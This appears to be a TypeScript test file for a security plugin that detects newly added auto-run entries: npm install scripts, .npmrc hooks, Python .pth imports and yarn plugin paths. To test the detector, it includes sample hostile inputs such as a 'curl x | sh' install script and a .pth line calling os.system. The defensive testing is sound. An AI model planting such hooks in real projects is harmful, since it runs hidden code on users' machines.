// Which entries of a file the human's own tools run later by themselves, and which of them a change added: the rule
// the plugin's result check holds (facts/run-later.ts). Real files of each kind, before and after an edit.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { localDependencies, runLaterAdded, runLaterEntries, runLaterKind } from '../src/index.js';

const fixture = (name: string) => readFileSync(join(import.meta.dirname, 'fixtures/run-later', name), 'utf8');

describe('run-later files', () => {
  it('knows them by path: package.json outside node_modules, .npmrc, .pth and sitecustomize in site-packages, a .pnpmfile', () => {
    expect(runLaterKind('/p/package.json')).toBe('npm-manifest');
    expect(runLaterKind('/p/packages/api/package.json')).toBe('npm-manifest');
    expect(runLaterKind('/p/node_modules/left-pad/package.json')).toBeUndefined();
    expect(runLaterKind('/p/.npmrc')).toBe('npm-config');
    expect(runLaterKind('/p/.venv/lib/python3.12/site-packages/zz.pth')).toBe('python-pth');
    expect(runLaterKind('/p/.venv/lib/python3.12/site-packages/sitecustomize.py')).toBe('code-file');
    expect(runLaterKind('/p/.pnpmfile.cjs')).toBe('code-file');
    // A .pth or a sitecustomize.py elsewhere is an ordinary file: python does not run it by itself.
    expect(runLaterKind('/p/docs/example.pth')).toBeUndefined();
    expect(runLaterKind('/p/src/sitecustomize.py')).toBeUndefined();
    expect(runLaterKind('/p/Makefile')).toBeUndefined();
    expect(runLaterKind('/p/conftest.py')).toBeUndefined();
  });

  it('package.json: an added install-time script is found; a new test script, a build script, a dependency are not', () => {
    const added = runLaterAdded('npm-manifest', fixture('package-before.json'), fixture('package-after.json'));
    expect(added).toEqual([{ key: 'postinstall', value: 'node tools/setup.js' }]);
  });

  it('package.json: an install script whose command changed is found; one already there and unchanged is not', () => {
    const before = fixture('package-before.json');
    expect(runLaterAdded('npm-manifest', before, before.replace('"husky"', '"husky && curl x | sh"'))).toEqual([
      { key: 'prepare', value: 'husky && curl x | sh' },
    ]);
    expect(runLaterAdded('npm-manifest', before, before)).toEqual([]);
  });

  it('package.json: a file npm cannot parse runs nothing; a new package.json with a preinstall is found', () => {
    expect(runLaterEntries('npm-manifest', '{ "scripts": { "preinstall": ')).toEqual([]);
    expect(runLaterAdded('npm-manifest', undefined, '{"scripts":{"preinstall":"sh x"}}')).toEqual([
      { key: 'preinstall', value: 'sh x' },
    ]);
  });

  it('.npmrc: keys that name what npm runs are found whatever their case or spacing; a registry, a token are not', () => {
    const added = runLaterAdded('npm-config', fixture('npmrc-before'), fixture('npmrc-after'));
    expect(added).toEqual([
      { key: 'script-shell', value: '/work/tools/sh.sh' },
      { key: 'node-options', value: '--require=./pre.cjs' },
    ]);
  });

  it('.pth: an import line is code; a path line is not; sitecustomize.py is code as a whole', () => {
    expect(runLaterAdded('python-pth', undefined, '/opt/lib\n../src\n')).toEqual([]);
    expect(runLaterAdded('python-pth', '/opt/lib\n', "/opt/lib\nimport os; os.system('x')\n")).toEqual([
      { key: 'import', value: "import os; os.system('x')" },
    ]);
    // "import" must be followed by a space or a tab, as site.py reads it.
    expect(runLaterAdded('python-pth', undefined, 'importlib-path\n')).toEqual([]);
    expect(runLaterAdded('code-file', undefined, 'import os\n')).toHaveLength(1);
    expect(runLaterAdded('code-file', 'import os\n', 'import os\n')).toEqual([]);
  });

  it('yarnrc: `yarnPath` and `plugins` (with their list) are code yarn runs; `nodeLinker`, a registry are not', () => {
    expect(runLaterKind('/p/.yarnrc.yml')).toBe('yarn-config');
    const before = 'nodeLinker: node-modules\nnpmRegistryServer: "https://registry.npmjs.org"\n';
    const after = `${before}yarnPath: .yarn/releases/evil.cjs\nplugins:\n  - path: .yarn/plugins/x.cjs\n`;
    expect(runLaterAdded('yarn-config', before, after).map((e) => e.key)).toEqual(['yarnPath', 'plugins']);
    expect(runLaterAdded('yarn-config', before, `${before}enableTelemetry: false\n`)).toEqual([]);
    // yarn 1's .yarnrc
    expect(runLaterAdded('yarn-config', undefined, 'yarn-path "./tools/y.js"\n')).toEqual([
      { key: 'yarn-path', value: 'yarn-path "./tools/y.js"\n' },
    ]);
  });

  it('local dependencies of a package.json are found (file:, link:, a relative path); registry and git ones are not', () => {
    const manifest = JSON.stringify({
      dependencies: { a: 'file:../shared', b: '^1.0.0', c: 'github:u/r' },
      devDependencies: { d: 'link:./tools/lint', e: './vendor/e-1.0.0.tgz' },
    });
    expect(localDependencies(manifest)).toEqual(['../shared', './tools/lint']);
  });
});
